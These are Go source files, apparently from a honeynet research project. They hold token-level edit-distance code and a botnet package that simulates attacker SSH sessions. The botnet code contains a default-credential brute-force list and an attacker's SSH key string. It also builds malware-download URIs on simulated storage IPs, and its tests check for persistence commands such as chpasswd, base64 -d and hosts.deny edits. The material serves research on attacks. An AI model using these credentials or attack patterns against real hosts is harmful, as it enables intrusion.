func (s *Scratch) NormalizedIDs(a, b []int32) float64 {
	la, lb := len(a), len(b)
	n := la
	if lb > n {
		n = lb
	}
	if n == 0 {
		return 0
	}
	return float64(s.damerauBoundedIDs(a, b)) / float64(n)
}

// NormalizedIDsFull is NormalizedIDs computed by the unbounded full DP
// — the reference the bounded kernel must match exactly. Kept for the
// equivalence tests and the bounded-vs-unbounded matrix benchmark.
func (s *Scratch) NormalizedIDsFull(a, b []int32) float64 { return normalizedFull(s, a, b) }

// DamerauBounded returns the exact DLD via the bounded doubling kernel
// (affix stripping + exponentially widening Ukkonen band). It always
// equals Damerau; only the work differs.
func (s *Scratch) DamerauBounded(a, b []string) int { return damerauDoubling(s, a, b) }

// Interner maps distinct tokens to dense int32 IDs so the DP can
// compare integers instead of strings. Equality is preserved exactly:
// two tokens get the same ID iff they are the same string, so any
// distance over ID sequences equals the distance over the token
// sequences. Not safe for concurrent use — intern serially before
// fanning out.
type Interner struct {
	ids map[string]int32
}

// NewInterner returns an empty Interner.
func NewInterner() *Interner { return &Interner{ids: map[string]int32{}} }

// Intern converts a token sequence to its ID sequence, assigning fresh
// IDs to unseen tokens.
func (in *Interner) Intern(tokens []string) []int32 {
	out := make([]int32, len(tokens))
	for i, t := range tokens {
		id, ok := in.ids[t]
		if !ok {
			id = int32(len(in.ids))
			in.ids[t] = id
		}
		out[i] = id
	}
	return out
}

// CharDamerau computes character-level DLD between raw strings — the
// baseline the paper argues against; kept for the token-vs-char
// ablation. The DP runs directly over the strings' bytes: no per-call
// string or slice conversion allocations.
func (s *Scratch) CharDamerau(a, b string) int {
	la, lb := len(a), len(b)
	if la == 0 {
		return lb
	}
	if lb == 0 {
		return la
	}
	prev2, prev, cur := s.rows(lb)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1
			if v := cur[j-1] + 1; v < m {
				m = v
			}
			if v := prev[j-1] + cost; v < m {
				m = v
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v
				}
			}
			cur[j] = m
		}
		prev2, prev, cur = prev, cur, prev2
	}
	return prev[lb]
}

// Damerau computes the Damerau–Levenshtein distance between two token
// sequences: the minimum number of token insertions, deletions,
// substitutions, and adjacent transpositions turning a into b.
//
// This is the "optimal string alignment" variant (each substring edited
// at most once), the standard choice for clustering distance matrices.
func Damerau(a, b []string) int {
	var s Scratch
	return s.Damerau(a, b)
}

// Normalized returns the DLD between the token sequences scaled into
// [0,1] by the longer sequence length. Two empty sequences have
// distance 0.
func Normalized(a, b []string) float64 {
	var s Scratch
	return s.Normalized(a, b)
}

// DamerauBanded computes the DLD but abandons early (returning a value
// > bound) once the distance provably exceeds bound. Clustering uses it
// to skip full matrix computation for clearly-dissimilar pairs — one of
// the ablations in DESIGN.md.
func DamerauBanded(a, b []string, bound int) int {
	var s Scratch
	return s.DamerauBanded(a, b, bound)
}

// CharDamerau computes character-level DLD between raw strings.
func CharDamerau(a, b string) int {
	var s Scratch
	return s.CharDamerau(a, b)
}
