// Package textdist implements the session-similarity machinery of
// section 6: command tokenization and the token-level Damerau–Levenshtein
// distance (DLD), where each token — not each character — is an edit
// unit. Token-level DLD is robust to the obfuscation bots apply (rotating
// IPs, random file names, changing folders) because such churn touches
// isolated tokens without altering the behavioral pattern.
//
// The DP needs three rolling rows of ints. The package-level functions
// allocate them per call; the distance-matrix hot path computes millions
// of distances, so a Scratch carries reusable rows (one Scratch per
// worker) and brings per-pair allocations to zero.
package textdist

import "strings"

// Tokenize splits session command text into tokens. Separators are
// whitespace and the shell operators `;`, `|`, `&`, matching the paper's
// example: "mkdir /tmp;cd /tmp" -> ["mkdir", "/tmp", "cd", "/tmp"].
func Tokenize(text string) []string {
	return strings.FieldsFunc(text, func(r rune) bool {
		switch r {
		case ' ', '\t', '\n', '\r', ';', '|', '&':
			return true
		}
		return false
	})
}

// Scratch holds the DP row buffers for one worker. The zero value is
// ready to use; rows grow on demand and are reused across calls. Not
// safe for concurrent use — give each goroutine its own Scratch.
type Scratch struct {
	prev2, prev, cur []int
}

// NewScratch returns an empty Scratch.
func NewScratch() *Scratch { return &Scratch{} }

// rows returns the three DP rows sized for a second sequence of length
// lb, growing the backing arrays when needed.
func (s *Scratch) rows(lb int) (prev2, prev, cur []int) {
	if cap(s.prev) <= lb {
		s.prev2 = make([]int, lb+1)
		s.prev = make([]int, lb+1)
		s.cur = make([]int, lb+1)
	}
	return s.prev2[:lb+1], s.prev[:lb+1], s.cur[:lb+1]
}

// damerau computes the edit-unit DLD over any comparable element type.
// Tokens run it over []string; the interned hot path runs it over
// []int32, where the per-cell equality check is a single integer
// compare instead of a string compare.
func damerau[T comparable](s *Scratch, a, b []T) int {
	la, lb := len(a), len(b)
	if la == 0 {
		return lb
	}
	if lb == 0 {
		return la
	}
	// Three rolling rows: i-2, i-1, i.
	prev2, prev, cur := s.rows(lb)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1 // deletion
			if v := cur[j-1] + 1; v < m {
				m = v // insertion
			}
			if v := prev[j-1] + cost; v < m {
				m = v // substitution
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v // transposition
				}
			}
			cur[j] = m
		}
		prev2, prev, cur = prev, cur, prev2
	}
	return prev[lb]
}

// damerauBanded is damerau with early abandoning: it returns a value
// > bound as soon as the distance provably exceeds bound.
func damerauBanded[T comparable](s *Scratch, a, b []T, bound int) int {
	la, lb := len(a), len(b)
	diff := la - lb
	if diff < 0 {
		diff = -diff
	}
	if diff > bound {
		return bound + 1
	}
	if la == 0 || lb == 0 {
		return la + lb
	}
	prev2, prev, cur := s.rows(lb)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		rowMin := cur[0]
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1
			if v := cur[j-1] + 1; v < m {
				m = v
			}
			if v := prev[j-1] + cost; v < m {
				m = v
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v
				}
			}
			cur[j] = m
			if m < rowMin {
				rowMin = m
			}
		}
		if rowMin > bound {
			return bound + 1
		}
		prev2, prev, cur = prev, cur, prev2
	}
	d := prev[lb]
	if d > bound {
		return bound + 1
	}
	return d
}

// normalized scales the DLD into [0,1] by the longer sequence length.
// Clearly-dissimilar pairs — where the length difference alone forces
// at least half the tokens to be edited — are routed through the banded
// DP with bound n-1, which abandons rows early. That bound keeps the
// result exact: the DLD never exceeds n = max(len(a), len(b))
// (substitute min(la,lb) tokens and insert/delete the rest), so a
// banded verdict of "> n-1" pins the distance to exactly n.
func normalized[T comparable](s *Scratch, a, b []T) float64 {
	la, lb := len(a), len(b)
	n, diff := la, la-lb
	if lb > n {
		n = lb
	}
	if diff < 0 {
		diff = -diff
	}
	if n == 0 {
		return 0
	}
	var d int
	if 2*diff >= n {
		d = damerauBanded(s, a, b, n-1)
		if d > n {
			d = n
		}
	} else {
		d = damerau(s, a, b)
	}
	return float64(d) / float64(n)
}

// Damerau computes the token-level DLD using the scratch rows.
func (s *Scratch) Damerau(a, b []string) int { return damerau(s, a, b) }

// DamerauBanded computes the DLD but abandons early (returning a value
// > bound) once the distance provably exceeds bound.
func (s *Scratch) DamerauBanded(a, b []string, bound int) int {
	return damerauBanded(s, a, b, bound)
}

// Normalized returns the DLD scaled into [0,1] by the longer sequence
// length; see the package normalized helper for the exact-prefilter
// contract.
func (s *Scratch) Normalized(a, b []string) float64 { return normalized(s, a, b) }

// DamerauIDs is Damerau over interned token IDs.
func (s *Scratch) DamerauIDs(a, b []int32) int { return damerau(s, a, b) }

// NormalizedIDs is Normalized over interned token IDs. Because an
// Interner assigns equal tokens equal IDs (and distinct tokens distinct
// IDs), this returns exactly Normalized of the original sequences while
// the DP inner loop compares single integers instead of strings — the
// distance-matrix hot path.
func (s *Scratch) NormalizedIDs(a, b []int32) float64 { return normalized(s, a, b) }

// Interner maps distinct tokens to dense int32 IDs so the DP can
// compare integers instead of strings. Equality is preserved exactly:
// two tokens get the same ID iff they are the same string, so any
// distance over ID sequences equals the distance over the token
// sequences. Not safe for concurrent use — intern serially before
// fanning out.
type Interner struct {
	ids map[string]int32
}

// NewInterner returns an empty Interner.
func NewInterner() *Interner { return &Interner{ids: map[string]int32{}} }

// Intern converts a token sequence to its ID sequence, assigning fresh
// IDs to unseen tokens.
func (in *Interner) Intern(tokens []string) []int32 {
	out := make([]int32, len(tokens))
	for i, t := range tokens {
		id, ok := in.ids[t]
		if !ok {
			id = int32(len(in.ids))
			in.ids[t] = id
		}
		out[i] = id
	}
	return out
}

// CharDamerau computes character-level DLD between raw strings — the
// baseline the paper argues against; kept for the token-vs-char
// ablation. The DP runs directly over the strings' bytes: no per-call
// string or slice conversion allocations.
func (s *Scratch) CharDamerau(a, b string) int {
	la, lb := len(a), len(b)
	if la == 0 {
		return lb
	}
	if lb == 0 {
		return la
	}
	prev2, prev, cur := s.rows(lb)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1
			if v := cur[j-1] + 1; v < m {
				m = v
			}
			if v := prev[j-1] + cost; v < m {
				m = v
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v
				}
			}
			cur[j] = m
		}
		prev2, prev, cur = prev, cur, prev2
	}
	return prev[lb]
}

// Damerau computes the Damerau–Levenshtein distance between two token
// sequences: the minimum number of token insertions, deletions,
// substitutions, and adjacent transpositions turning a into b.
//
// This is the "optimal string alignment" variant (each substring edited
// at most once), the standard choice for clustering distance matrices.
func Damerau(a, b []string) int {
	var s Scratch
	return s.Damerau(a, b)
}

// Normalized returns the DLD between the token sequences scaled into
// [0,1] by the longer sequence length. Two empty sequences have
// distance 0.
func Normalized(a, b []string) float64 {
	var s Scratch
	return s.Normalized(a, b)
}

// DamerauBanded computes the DLD but abandons early (returning a value
// > bound) once the distance provably exceeds bound. Clustering uses it
// to skip full matrix computation for clearly-dissimilar pairs — one of
// the ablations in DESIGN.md.
func DamerauBanded(a, b []string, bound int) int {
	var s Scratch
	return s.DamerauBanded(a, b, bound)
}

// CharDamerau computes character-level DLD between raw strings.
func CharDamerau(a, b string) int {
	var s Scratch
	return s.CharDamerau(a, b)
}
