package botnet

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"math/rand"
	"time"

	"honeynet/internal/asdb"
)

// Attack is one generated attacker session script.
type Attack struct {
	// ClientIP is the source address.
	ClientIP string
	// NoLogin marks a pure TCP scan (a "scanning" session).
	NoLogin bool
	// PreFailed are credential attempts made (and rejected) before the
	// final attempt.
	PreFailed [][2]string
	// User and Password are the final credential attempt.
	User, Password string
	// FinalFails marks a session whose last attempt also fails
	// (a "scouting" session).
	FinalFails bool
	// Commands are the shell lines run after a successful login; empty
	// means an "intrusion" session (login, no commands).
	Commands []string
	// ClientVersion is the SSH banner the bot presents.
	ClientVersion string
	// Telnet marks a session arriving on port 23 instead of SSH. The
	// paper's dataset is 635M sessions of which 546M are SSH; the
	// analyses use the SSH subset.
	Telnet bool
}

// Env is the shared world bots generate against: the AS registry and
// per-family malware-storage rotators.
type Env struct {
	Reg      *asdb.Registry
	rotators map[string]*StorageRotator
	// Scale is the simulation's volume divisor. Client-IP pools shrink
	// with it so per-IP session density — what the paper's overlap and
	// reuse findings depend on — is preserved at reduced volume.
	Scale float64
}

// NewEnv builds a generation environment over the registry at scale 1.
func NewEnv(reg *asdb.Registry) *Env {
	return &Env{Reg: reg, rotators: map[string]*StorageRotator{}, Scale: 1}
}

// Rotator returns the storage rotator for a malware family, creating it
// on first use. Families sharing a rotator share storage IPs, which is
// how the paper observes infrastructure reuse.
func (e *Env) Rotator(family string, slots int) *StorageRotator {
	r, ok := e.rotators[family]
	if !ok {
		r = NewStorageRotator(e.Reg, family, slots)
		e.rotators[family] = r
	}
	return r
}

// Bot is one modeled attacker: a schedule, an IP pool, and a session
// generator.
type Bot struct {
	// Name is the bot/campaign label (matching classify categories where
	// one exists).
	Name string
	// Family is the malware family its payloads belong to ("" for bots
	// that drop nothing).
	Family string
	// Schedule gives expected sessions/day at paper scale.
	Schedule Schedule
	// PoolSize is the bot's total unique client-IP pool at paper scale.
	PoolSize int
	// DailyActive approximates how many distinct pool members attack per
	// day; 0 means the whole pool.
	DailyActive int
	// SharedPool, when set, names another bot whose client-IP pool this
	// bot reuses (the mdrfckr / 3245gs5662d34 overlap of section 9).
	SharedPool string
	// ScalePool shrinks the pool with the simulation scale, preserving
	// the bot's per-IP session density. Only campaigns whose findings
	// depend on that density (the saturated Outlaw pool) set it; other
	// bots keep absolute pools so unique-IP statistics stay meaningful.
	ScalePool bool
	// Version is the SSH client banner.
	Version string
	// Gen produces one attack; it must be deterministic given (rng, day).
	Gen func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack
}

// poolName returns the identity used for client-IP derivation.
func (b *Bot) poolName() string {
	if b.SharedPool != "" {
		return b.SharedPool
	}
	return b.Name
}

// stable64 derives a deterministic 64-bit value from strings.
func stable64(parts ...string) uint64 {
	h := sha256.New()
	for _, p := range parts {
		h.Write([]byte(p))
		h.Write([]byte{0})
	}
	return binary.BigEndian.Uint64(h.Sum(nil)[:8])
}

// ClientIP picks the bot's source address for a session on the given
// day: a stable pool of PoolSize identities, of which a rotating window
// of DailyActive members is active each day.
func (b *Bot) ClientIP(env *Env, rng *rand.Rand, day time.Time) string {
	pool := b.PoolSize
	if pool <= 0 {
		pool = 1000
	}
	active := b.DailyActive
	if active <= 0 || active > pool {
		active = pool
	}
	// Shrink density-sensitive pools with the simulation scale.
	if b.ScalePool && env.Scale > 1 && pool > 16 {
		pool = int(float64(pool) / env.Scale)
		if pool < 8 {
			pool = 8
		}
		active = int(float64(active) / env.Scale)
		if active < 2 {
			active = 2
		}
		if active > pool {
			active = pool
		}
	}
	dayIdx := int(day.Sub(WindowStart).Hours() / 24)
	offset := (dayIdx * 7919) % pool
	member := (offset + rng.Intn(active)) % pool
	h := stable64(b.poolName(), fmt.Sprintf("m%d", member))
	clients := env.Reg.Clients()
	as := clients[int(h%uint64(len(clients)))]
	host := int(h>>20) % 4000
	return env.Reg.IPFor(as, host)
}

// dictionary is the brute-force credential list scouting bots walk.
var dictionary = [][2]string{
	{"root", "root"}, {"admin", "admin"}, {"root", "password"},
	{"user", "user"}, {"pi", "raspberry"}, {"test", "test"},
	{"oracle", "oracle"}, {"ubnt", "ubnt"}, {"guest", "guest"},
	{"root", "123456"}, {"admin", "admin123"}, {"root", "toor"},
	{"git", "git"}, {"postgres", "postgres"}, {"hadoop", "hadoop"},
	{"root", "111111"}, {"ftpuser", "ftpuser"}, {"nagios", "nagios"},
}

// randomHex returns n random lowercase hex characters.
func randomHex(rng *rand.Rand, n int) string {
	const hexdigits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = hexdigits[rng.Intn(16)]
	}
	return string(b)
}

// randomAlnum returns n random alphanumeric characters.
func randomAlnum(rng *rand.Rand, n int) string {
	const chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = chars[rng.Intn(len(chars))]
	}
	return string(b)
}

// randomUpper returns n random uppercase characters.
func randomUpper(rng *rand.Rand, n int) string {
	const chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b := make([]byte, n)
	for i := range b {
		b[i] = chars[rng.Intn(len(chars))]
	}
	return string(b)
}

// MdrfckrKey is the SSH public key the Outlaw-linked campaign installs;
// its hash is what Shadowserver's special report counts on >13k hosts.
const MdrfckrKey = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDbc8PmfOZRmJDgrjZhr8qJcP0Yy9BGP2TZcN mdrfckr"

// MdrfckrKeyHash is the stable hash identifier for the installed key.
func MdrfckrKeyHash() string {
	sum := sha256.Sum256([]byte(MdrfckrKey))
	return fmt.Sprintf("%x", sum[:])
}
