package botnet

import (
	"fmt"
	"math/rand"
	"time"

	"honeynet/internal/asdb"
)

// StorageRotator manages a bot family's malware-storage IPs with the
// activity dynamics of Figure 9: about half the IPs serve for a single
// day, a fifth for up to four days, the rest for around a week; a
// quarter of retired IPs come back after six months or more (the
// blocklist-evasion pool rotation the paper infers).
type StorageRotator struct {
	reg    *asdb.Registry
	family string

	active   []*storageIP
	bench    []*storageIP
	slots    int
	nextHost int
}

type storageIP struct {
	as          *asdb.AS
	ip          string
	activeUntil time.Time
	reuseAt     time.Time // zero if never reused
}

// NewStorageRotator creates a rotator with the given number of
// concurrently active storage IPs.
func NewStorageRotator(reg *asdb.Registry, family string, slots int) *StorageRotator {
	if slots <= 0 {
		slots = 2
	}
	return &StorageRotator{reg: reg, family: family, slots: slots}
}

// sampleLifetime draws an activity duration per Figure 9's one-week
// recall histogram.
func sampleLifetime(rng *rand.Rand) time.Duration {
	switch p := rng.Float64(); {
	case p < 0.5:
		return 24 * time.Hour
	case p < 0.7:
		return time.Duration(2+rng.Intn(3)) * 24 * time.Hour
	default:
		return 7 * 24 * time.Hour
	}
}

// IP returns a currently active storage IP for the given day, rotating
// the pool as lifetimes expire.
func (sr *StorageRotator) IP(rng *rand.Rand, day time.Time) string {
	// Retire expired IPs.
	kept := sr.active[:0]
	for _, s := range sr.active {
		if day.Before(s.activeUntil) {
			kept = append(kept, s)
			continue
		}
		// Retired IPs go to the rotation bench and return after six
		// months or more; the pool rotation makes ~25%% of storage IPs
		// reappear after long dormancy (Figure 9).
		if rng.Float64() < 0.45 {
			s.reuseAt = day.AddDate(0, 0, 170+rng.Intn(200))
			sr.bench = append(sr.bench, s)
		}
	}
	sr.active = kept

	// Refill slots: prefer benched IPs whose comeback date has passed.
	for len(sr.active) < sr.slots {
		var revived *storageIP
		for i, b := range sr.bench {
			if !day.Before(b.reuseAt) {
				revived = b
				sr.bench = append(sr.bench[:i], sr.bench[i+1:]...)
				break
			}
		}
		if revived != nil {
			revived.activeUntil = day.Add(sampleLifetime(rng))
			sr.active = append(sr.active, revived)
			continue
		}
		as := sr.reg.SampleStorageAS(rng, day)
		sr.nextHost++
		s := &storageIP{
			as:          as,
			ip:          sr.reg.IPFor(as, sr.nextHost),
			activeUntil: day.Add(sampleLifetime(rng)),
		}
		sr.active = append(sr.active, s)
	}
	return sr.active[rng.Intn(len(sr.active))].ip
}

// URI builds a download URI on an active storage IP. The path encodes
// the family and a variant id so payload contents (and therefore hashes)
// churn realistically: a new variant roughly every week plus a few
// concurrent builds.
func (sr *StorageRotator) URI(rng *rand.Rand, day time.Time, file string) string {
	ip := sr.IP(rng, day)
	week := day.Unix() / (7 * 24 * 3600)
	variant := rng.Intn(3)
	return fmt.Sprintf("http://%s/%s?v=%d-%d", ip, file, week, variant)
}
