// Package botnet models every named bot and campaign the paper observes:
// its activity schedule over Dec 2021 – Aug 2024, its credentials, its
// client-IP pool, and the exact command sequences it executes after
// login. The simulator (internal/simulate) turns these models into
// session records; the examples drive the same models over real SSH.
package botnet

import (
	"math/rand"
	"time"
)

// Observation window of the paper's dataset.
var (
	WindowStart = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	WindowEnd   = time.Date(2024, 9, 1, 0, 0, 0, 0, time.UTC)
)

// D is a shorthand constructing a UTC date.
func D(y int, m time.Month, d int) time.Time {
	return time.Date(y, m, d, 0, 0, 0, 0, time.UTC)
}

// Window is one activity interval with a mean session rate per day at
// paper scale (the honeynet's full 221-node volume).
type Window struct {
	From, To time.Time
	Rate     float64
}

// Schedule is a piecewise-constant activity profile. Overlapping windows
// add.
type Schedule []Window

// Rate returns the expected sessions/day on the given day.
func (s Schedule) Rate(day time.Time) float64 {
	total := 0.0
	for _, w := range s {
		if !day.Before(w.From) && day.Before(w.To) {
			total += w.Rate
		}
	}
	return total
}

// Steady is a constant-rate schedule across the whole window.
func Steady(rate float64) Schedule {
	return Schedule{{From: WindowStart, To: WindowEnd, Rate: rate}}
}

// Between is a single-window schedule.
func Between(from, to time.Time, rate float64) Schedule {
	return Schedule{{From: from, To: to, Rate: rate}}
}

// Waves builds a schedule of recurring bursts: `on` days active at rate,
// then `off` days silent, starting at from until to.
func Waves(from, to time.Time, on, off int, rate float64) Schedule {
	var s Schedule
	for t := from; t.Before(to); t = t.AddDate(0, 0, on+off) {
		end := t.AddDate(0, 0, on)
		if end.After(to) {
			end = to
		}
		s = append(s, Window{From: t, To: end, Rate: rate})
	}
	return s
}

// Ramp approximates a linearly changing rate with monthly steps.
func Ramp(from, to time.Time, startRate, endRate float64) Schedule {
	var s Schedule
	months := 0
	for t := from; t.Before(to); t = t.AddDate(0, 1, 0) {
		months++
	}
	if months == 0 {
		return nil
	}
	i := 0
	for t := from; t.Before(to); t = t.AddDate(0, 1, 0) {
		end := t.AddDate(0, 1, 0)
		if end.After(to) {
			end = to
		}
		frac := float64(i) / float64(months)
		s = append(s, Window{From: t, To: end, Rate: startRate + (endRate-startRate)*frac})
		i++
	}
	return s
}

// Noisy scales a day's rate by ±jitter using the provided RNG, for the
// daily variation the monthly boxplots of Figure 1 show.
func Noisy(rate float64, jitter float64, rng *rand.Rand) float64 {
	if rate <= 0 {
		return 0
	}
	return rate * (1 + jitter*(2*rng.Float64()-1))
}
