package botnet

import (
	"math/rand"
	"strings"
	"testing"
	"time"

	"honeynet/internal/asdb"
)

func testEnv() *Env {
	return NewEnv(asdb.NewRegistry(1, 200))
}

func botByName(t *testing.T, name string) *Bot {
	t.Helper()
	for _, b := range Catalog() {
		if b.Name == name {
			return b
		}
	}
	t.Fatalf("bot %q not in catalog", name)
	return nil
}

func TestScheduleSemantics(t *testing.T) {
	s := Schedule{
		{From: D(2022, 1, 1), To: D(2022, 2, 1), Rate: 100},
		{From: D(2022, 1, 15), To: D(2022, 3, 1), Rate: 50},
	}
	if got := s.Rate(D(2021, 12, 31)); got != 0 {
		t.Errorf("before window: %v", got)
	}
	if got := s.Rate(D(2022, 1, 10)); got != 100 {
		t.Errorf("single window: %v", got)
	}
	if got := s.Rate(D(2022, 1, 20)); got != 150 {
		t.Errorf("overlap adds: %v", got)
	}
	if got := s.Rate(D(2022, 2, 15)); got != 50 {
		t.Errorf("tail window: %v", got)
	}
	if got := s.Rate(D(2022, 3, 1)); got != 0 {
		t.Errorf("exclusive end: %v", got)
	}
}

func TestWavesAlternate(t *testing.T) {
	s := Waves(D(2022, 1, 1), D(2022, 3, 1), 10, 10, 100)
	if got := s.Rate(D(2022, 1, 5)); got != 100 {
		t.Errorf("on-phase: %v", got)
	}
	if got := s.Rate(D(2022, 1, 15)); got != 0 {
		t.Errorf("off-phase: %v", got)
	}
	if got := s.Rate(D(2022, 1, 25)); got != 100 {
		t.Errorf("second wave: %v", got)
	}
}

func TestRampMonotone(t *testing.T) {
	s := Ramp(D(2022, 1, 1), D(2023, 1, 1), 100, 1200)
	prev := -1.0
	for m := 0; m < 12; m++ {
		r := s.Rate(D(2022, time.Month(m+1), 15))
		if r < prev {
			t.Errorf("ramp not monotone at month %d: %v < %v", m, r, prev)
		}
		prev = r
	}
}

func TestMdrfckrDropWindows(t *testing.T) {
	if !InMdrfckrDrop(D(2022, 10, 12)) {
		t.Error("Oct 2022 Sandworm window should be a drop")
	}
	if InMdrfckrDrop(D(2022, 9, 15)) {
		t.Error("Sep 2022 is not a drop window")
	}
	b := botByName(t, "mdrfckr")
	normal := EffectiveRate(b, D(2022, 9, 15))
	dropped := EffectiveRate(b, D(2022, 10, 12))
	if dropped >= normal/100 {
		t.Errorf("drop window rate %v should be orders of magnitude below %v", dropped, normal)
	}
}

func TestMdrfckrGeneratesPersistenceAndBase64InDrops(t *testing.T) {
	env := testEnv()
	b := botByName(t, "mdrfckr")
	rng := rand.New(rand.NewSource(1))

	atk := b.Gen(b, env, rng, D(2022, 9, 15))
	joined := strings.Join(atk.Commands, "\n")
	if !strings.Contains(joined, "mdrfckr") {
		t.Error("mdrfckr key missing")
	}
	if !strings.Contains(joined, "chpasswd") {
		t.Error("root password change missing from initial variant")
	}
	if strings.Contains(joined, "base64") {
		t.Error("base64 scripts must only appear in drop windows")
	}

	atk = b.Gen(b, env, rng, D(2022, 10, 12))
	if !strings.Contains(strings.Join(atk.Commands, "\n"), "base64 -d") {
		t.Error("drop-window sessions must carry base64 scripts")
	}
}

func TestVariantOmitsPasswordChange(t *testing.T) {
	env := testEnv()
	b := botByName(t, "mdrfckr_variant")
	atk := b.Gen(b, env, rand.New(rand.NewSource(1)), D(2023, 1, 10))
	joined := strings.Join(atk.Commands, "\n")
	for _, want := range []string{"auth.sh", "secure.sh", "hosts.deny", "mdrfckr"} {
		if !strings.Contains(joined, want) {
			t.Errorf("variant missing %q", want)
		}
	}
	if strings.Contains(joined, "chpasswd") {
		t.Error("variant must not change the root password")
	}
}

func TestSharedPoolOverlap(t *testing.T) {
	env := testEnv()
	mdr := botByName(t, "mdrfckr")
	twin := botByName(t, "login_3245gs5662d34")
	day := D(2023, 2, 1)
	rng := rand.New(rand.NewSource(3))

	// Saturate the campaign's daily-active window, as the paper's
	// full-period IP sets do.
	mdrIPs := map[string]bool{}
	for i := 0; i < 60000; i++ {
		mdrIPs[mdr.ClientIP(env, rng, day)] = true
	}
	overlap, total := 0, 0
	for i := 0; i < 800; i++ {
		ip := twin.ClientIP(env, rng, day)
		total++
		if mdrIPs[ip] {
			overlap++
		}
	}
	// The twin draws from a subset window of the same pool: overlap must
	// be very high (paper: 99.4%).
	if frac := float64(overlap) / float64(total); frac < 0.9 {
		t.Errorf("IP overlap = %.2f, want ~1.0", frac)
	}

	// A pool-distinct bot must NOT overlap significantly.
	other := botByName(t, "echo_OK")
	overlap = 0
	for i := 0; i < 800; i++ {
		if mdrIPs[other.ClientIP(env, rng, day)] {
			overlap++
		}
	}
	if frac := float64(overlap) / 800; frac > 0.2 {
		t.Errorf("unrelated bot overlap = %.2f, want low", frac)
	}
}

func TestClientIPStability(t *testing.T) {
	env := testEnv()
	b := botByName(t, "echo_OK")
	day := D(2022, 5, 1)
	// Same member index must map to the same IP across draws: pool
	// identity is stable.
	r1 := rand.New(rand.NewSource(5))
	r2 := rand.New(rand.NewSource(5))
	for i := 0; i < 50; i++ {
		if b.ClientIP(env, r1, day) != b.ClientIP(env, r2, day) {
			t.Fatal("ClientIP not deterministic for identical RNG streams")
		}
	}
}

func TestCurlMaxredFourIPs(t *testing.T) {
	env := testEnv()
	b := botByName(t, "curl_maxred")
	rng := rand.New(rand.NewSource(1))
	ips := map[string]bool{}
	day := D(2024, 2, 1)
	for i := 0; i < 500; i++ {
		ips[b.ClientIP(env, rng, day)] = true
	}
	if len(ips) > 4 {
		t.Errorf("curl_maxred uses %d IPs, want <= 4", len(ips))
	}
	atk := b.Gen(b, env, rng, day)
	n := 0
	for _, c := range atk.Commands {
		if strings.Contains(c, "curl ") && strings.Contains(c, "max-redirs") {
			n++
		}
	}
	if n < 80 || n > 120 {
		t.Errorf("curl commands per session = %d, want ~100", n)
	}
}

func TestStorageRotatorLifetimes(t *testing.T) {
	reg := asdb.NewRegistry(2, 50)
	rot := NewStorageRotator(reg, "Mirai", 2)
	rng := rand.New(rand.NewSource(4))

	// Over a year of daily use, IPs churn but some return.
	perDay := map[string]map[time.Time]bool{}
	start := D(2022, 1, 1)
	for d := 0; d < 365; d++ {
		day := start.AddDate(0, 0, d)
		for i := 0; i < 3; i++ {
			ip := rot.IP(rng, day)
			if perDay[ip] == nil {
				perDay[ip] = map[time.Time]bool{}
			}
			perDay[ip][day] = true
		}
	}
	if len(perDay) < 30 {
		t.Errorf("storage IPs over a year = %d, want substantial churn", len(perDay))
	}
	// Half-ish of IPs should live a single day (the Figure 9 shape).
	oneDay := 0
	for _, days := range perDay {
		if len(days) == 1 {
			oneDay++
		}
	}
	if frac := float64(oneDay) / float64(len(perDay)); frac < 0.25 {
		t.Errorf("single-day IP share = %.2f, want large", frac)
	}
}

func TestRotatorURIParsableAndOnActiveIP(t *testing.T) {
	reg := asdb.NewRegistry(3, 50)
	rot := NewStorageRotator(reg, "Gafgyt", 2)
	rng := rand.New(rand.NewSource(6))
	day := D(2022, 6, 1)
	uri := rot.URI(rng, day, "bins.sh")
	if !strings.HasPrefix(uri, "http://10.") || !strings.Contains(uri, "/bins.sh?v=") {
		t.Errorf("URI = %q", uri)
	}
}

func TestCatalogSanity(t *testing.T) {
	seen := map[string]bool{}
	for _, b := range Catalog() {
		if b.Name == "" || b.Gen == nil {
			t.Fatalf("malformed bot %+v", b)
		}
		if seen[b.Name] {
			t.Errorf("duplicate bot %q", b.Name)
		}
		seen[b.Name] = true
		if b.Schedule == nil && b.Name != "scanner" {
			t.Errorf("bot %q has no schedule", b.Name)
		}
		// Every bot must be active at least one day in the window.
		active := false
		for d := WindowStart; d.Before(WindowEnd); d = d.AddDate(0, 0, 7) {
			if EffectiveRate(b, d) > 0 {
				active = true
				break
			}
		}
		if !active {
			t.Errorf("bot %q never active", b.Name)
		}
	}
	if len(seen) < 30 {
